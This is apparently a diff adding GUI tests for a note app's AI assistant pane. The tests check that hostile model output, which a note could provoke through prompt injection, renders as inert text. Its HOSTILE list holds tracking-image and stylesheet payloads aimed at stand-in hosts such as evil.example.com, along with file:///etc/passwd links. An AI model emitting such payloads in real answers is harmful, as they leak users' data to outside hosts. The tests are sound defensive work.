@@ -1,0 +1,98 @@
+"""Hostile model output renders inert: no link opens, no image or file loads, nothing is fetched.
+
+A note can carry an injection that makes the model print HTML, Markdown images or file
+links. The answer goes through the real streaming path of the assistant pane.
+"""
+
+from __future__ import annotations
+
+import struct
+import zlib
+
+import pytest
+from PySide6.QtCore import QUrl
+from PySide6.QtGui import QImage, QPixmap, QTextDocument
+
+from app.core.assistant.runner import TaskResult
+from app.core.llm.events import AnswerChunk, Done, ReasoningChunk
+from app.core.privacy import netguard
+from app.gui.assistant_pane import AssistantPane
+from app.gui.safe_text import SafeTextView
+from app.gui.session import Session
+
+pytestmark = pytest.mark.gui
+
+HOSTILE = [
+    '<img src="http://203.0.113.9/pixel.png?who=kari">',
+    "![tracker](https://evil.example.com/t.png)",
+    '<a href="file:///etc/passwd">open the contract</a>',
+    '<link rel="stylesheet" href="http://evil.example.com/s.css">',
+    "<style>@import url(http://evil.example.com/x.css);</style>",
+    '<iframe src="http://evil.example.com/"></iframe> [n999]',
+]
+
+
+def _png(path) -> None:
+    raw = b"\x00\xff\x00\x00"
+    chunk = lambda t, d: struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))  # noqa: E731
+    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+                     + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
+
+
+def _has_images_or_links(doc: QTextDocument) -> bool:
+    block = doc.begin()
+    while block.isValid():
+        it = block.begin()
+        while not it.atEnd():
+            fmt = it.fragment().charFormat()
+            if fmt.isImageFormat() or fmt.isAnchor():
+                return True
+            it += 1
+        block = block.next()
+    return False
+
+
+def test_hostile_answer_streams_in_as_plain_text(qtbot):
+    pane = AssistantPane(Session())
+    qtbot.addWidget(pane)
+    pane.show()
+    before = netguard.status()["blocked_attempts"]
+    text = "\n".join(HOSTILE)
+    pane._event(ReasoningChunk('<img src="http://evil.example.com/r.png">'))
+    for line in HOSTILE:
+        pane._event(AnswerChunk(line + "\n"))
+    qtbot.waitUntil(lambda: pane.answer.text() == text + "\n", timeout=5000)
+    pane._event(Done("stop", 10, 1, 20, 0.1, 0.2, 1.0))
+    pane._finished(TaskResult(conversation_id=1, task="ask", text=text, flags=[{"kind": "instruction_like", "note_id": 7}]))
+    pane.reasoning_toggle.setChecked(True)
+    pane.grab()  # lay out and paint: the moment a resource would be requested
+
+    for view in (pane.answer, pane.reasoning):
+        assert view.blocked_resources == []  # nothing even asked for: the text is text
+        assert not _has_images_or_links(view.document())
+        assert not view.openLinks() and not view.openExternalLinks()
+    assert pane.answer.text() == text  # every tag shown literally, nothing dropped
+    assert "<img" in pane.reasoning.text()
+    assert "instructions to an AI" in pane.flags.text()
+    assert netguard.status()["blocked_attempts"] == before
+
+
+def test_even_rich_text_cannot_load_a_file_or_remote_resource(qtbot, tmp_path):
+    image = tmp_path / "secret.png"
+    _png(image)
+    view = SafeTextView()
+    qtbot.addWidget(view)
+    view.show()
+    # If someone ever rendered HTML into the view, the resource hook still loads nothing.
+    view.setHtml(f'<p>x</p><img src="{QUrl.fromLocalFile(str(image)).toString()}"><img src="http://203.0.113.9/a.png">')
+    view.grab()
+    assert any(u.endswith("secret.png") for u in view.blocked_resources)
+    assert any("203.0.113.9" in u for u in view.blocked_resources)
+    loaded = view.document().resource(QTextDocument.ResourceType.ImageResource.value, QUrl.fromLocalFile(str(image)))
+    # What the document holds is the blank stand-in, not the file's green pixel.
+    pixel = QImage(loaded).pixelColor(0, 0) if isinstance(loaded, QImage) else QPixmap(loaded).toImage().pixelColor(0, 0)
+    assert pixel.alpha() == 0 and pixel.green() != 255
+    # Clicking a link is never followed: the view has no source to change to.
+    view.setHtml('<a href="file:///etc/passwd">x</a>')
+    view.setSource(QUrl("file:///etc/passwd"))
+    assert "root:" not in view.toPlainText()
